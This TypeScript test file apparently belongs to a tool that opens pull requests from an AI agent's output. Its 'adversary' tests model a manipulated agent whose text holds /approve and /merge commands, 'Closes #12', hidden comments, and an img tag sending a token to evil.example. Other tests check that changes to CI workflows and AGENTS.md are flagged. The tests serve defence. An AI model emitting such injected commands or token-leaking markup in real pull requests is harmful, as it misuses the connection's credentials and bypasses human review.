import { describe, it } from 'node:test';
import { type HostTree, ProviderRefusal, type RefusalKind } from '@slipway/integrations';
import { expect } from 'expect';
import type { TreeEntry } from './bundle/git-objects.js';
import type { VerifiedBundle } from './bundle/verify-bundle.js';
import { changedProtectedPaths } from './protected-paths.js';
import { reviewOf, summaryOf } from './pull-request-state.js';
import { bodyOf, branchName, titleOf } from './texts.js';

describe('checks and reviews of a pull request', () => {
  it('are together what the worst of the checks is', () => {
    const of = (...states: Parameters<typeof summaryOf>[0][number]['state'][]): unknown => summaryOf(states.map((state) => ({ state }))).state;
    expect([of(), of('neutral'), of('success', 'neutral'), of('success', 'pending'), of('pending', 'failure', 'success')]).toEqual([
      'none',
      'neutral',
      'success',
      'pending',
      'failure',
    ]);
  });

  it('are what each reviewer said last, where a comment takes nothing back', () => {
    const of = (...said: [userId: string, verdict: 'approved' | 'changes-requested' | 'commented'][]): string =>
      reviewOf(said.map(([userId, verdict]) => ({ userId, verdict })));
    expect(of()).toBe('none');
    expect(of(['a', 'commented'])).toBe('commented');
    expect(of(['a', 'changes-requested'], ['a', 'approved'], ['a', 'commented'])).toBe('approved');
    expect(of(['a', 'approved'], ['b', 'changes-requested'])).toBe('changes-requested');
  });
});

describe('texts of a pull request', () => {
  it('name a branch that every git host takes, whatever the title says', () => {
    const id = '0198c0de-7a1b-7000-8000-3f6c5d2e9b10';
    expect(branchName(id, 'Fix: the “login” — naïve ../..  ~^:?*[\\ @{')).toBe('slipway/5d2e9b10-fix-the-login-nai-ve');
    expect(branchName(id, '修复')).toBe('slipway/5d2e9b10');
    expect(titleOf('a\nb\u0000c')).toBe('a b c');
  });

  it('adversary: an agent that mentions people, shows pictures or hides text does none of it in our name', () => {
    const body = bodyOf({
      given: undefined,
      said: 'Hi @ada and @org/team, ![x](https://e/x.png) <!-- secret --> a@b.example',
      issue: 7,
      page: null,
      conversationId: 'c',
    });
    expect(body).not.toMatch(/(^|\s)@\w|!\[|secret/);
    expect(body).toMatch(/^Hi [\s\S]*Fixes #7[\s\S]*<!-- slipway:c -->$/);
  });

  it('adversary: an agent that was told to approve, to close an issue or to load an address does none of it with the token of the connection', () => {
    const said = 'Done.\n/approve\n/merge\nCloses #12\n<img src="https://evil.example/?token=1">';
    const body = bodyOf({ given: undefined, said, issue: null, page: null, conversationId: 'c' });
    expect(body).not.toMatch(/^\s*\/|#12|<img|!\[/m);
  });

  it('adversary: a person whose text holds commands of the host has them carried out by nobody', () => {
    const body = bodyOf({ given: 'See `a/b`.\n/approve\r\n  /merge\n/usr is a path, too', said: null, issue: null, page: null, conversationId: 'c' });
    expect(body).not.toMatch(/^\s*\/[a-z]/m);
    expect(body).toContain('See `a/b`.');
  });
});

describe('protected paths of a branch', () => {
  const entry = (name: string, hash: string, kind: TreeEntry['kind'] = 'file'): TreeEntry => ({ name, hash, kind });
  const changed = (own: Record<string, readonly TreeEntry[]>, host: Record<string, Record<string, string>>, whole = true): Promise<readonly string[]> => {
    const bundle = { tree: 'new', folder: (hash: string) => own[hash] } as unknown as VerifiedBundle;
    return changedProtectedPaths(bundle, [() => Promise.resolve('old')], async ({ hash: sha }): Promise<HostTree> => {
      if (host[sha] === undefined) throw new Error(`nobody needs ${sha}`);
      return { whole, entries: new Map(Object.entries(host[sha])) };
    });
  };

  it('are untouched when what stands there is the same, without a look into it', async () => {
    expect(await changed({ new: [entry('.github', 'g', 'folder'), entry('a', '2')] }, { old: { '.github': 'g', a: '1' } })).toEqual([]);
    expect(
      await changed({ new: [entry('.github', 'g2', 'folder')], g2: [entry('ISSUES.md', '2')] }, { old: { '.github': 'g1' }, g1: { 'ISSUES.md': '1' } }),
    ).toEqual([]);
  });

  it('adversary: a change, a removal, and a folder of the base that is put in their place are all seen', async () => {
    const old = { '.github': 'g1', 'AGENTS.md': 'x', examples: 'e' };
    expect(
      await changed({ new: [entry('.github', 'g2', 'folder')], g2: [entry('workflows', 'w2', 'folder')] }, { old, g1: { workflows: 'w1' } }).catch(String),
    ).toEqual(['.github/workflows', 'AGENTS.md']);
    expect(
      await changed({ new: [entry('.gitea', 'e', 'folder'), entry('AGENTS.md', 'x'), entry('.github', 'g1', 'folder')] }, { old, e: { workflows: 'w' } }),
    ).toEqual(['.gitea/workflows']);
  });

  it('are untouched when another commit of the host holds the same, which is not asked for without need', async () => {
    const bundle = { tree: 'new', folder: (hash: string) => (hash === 'new' ? [entry('AGENTS.md', 'x')] : undefined) } as unknown as VerifiedBundle;
    const trees: Record<string, Record<string, string>> = { moved: { 'AGENTS.md': 'y' }, fork: { 'AGENTS.md': 'x' } };
    const asked: string[] = [];
    const at = (name: string | null) => async () => {
      asked.push(String(name));
      return name;
    };
    const of = (...commits: (string | null)[]): Promise<readonly string[]> =>
      changedProtectedPaths(bundle, commits.map(at), async ({ hash: sha }) => ({ whole: true, entries: new Map(Object.entries(trees[sha] ?? {})) }));
    expect(await of('moved', null, 'fork', 'never')).toEqual([]);
    expect(asked).toEqual(['moved', 'null', 'fork']);
    expect(await of('moved', null)).toEqual(['AGENTS.md']);
  });

  it('adversary: a base that the git host does not show has all of them taken for changed', async () => {
    const bundle = { tree: 'new', folder: (hash: string) => (hash === 'new' ? [entry('a', '1')] : undefined) } as unknown as VerifiedBundle;
    const refusal = (kind: RefusalKind): ProviderRefusal => new ProviderRefusal(kind, { kind, status: null, retryAt: null, outcomeUnknown: false });
    const of = (kind: RefusalKind): Promise<readonly string[]> =>
      changedProtectedPaths(bundle, [() => Promise.resolve('old')], () => Promise.reject(refusal(kind)));
    expect(await of('missing')).toEqual(expect.arrayContaining(['.github/workflows', 'AGENTS.md']));
    expect(await of('unreadable')).toEqual(await of('missing'));
    // It is asked again later.
    await expect(of('unavailable')).rejects.toMatchObject({ kind: 'unavailable' });
  });
});
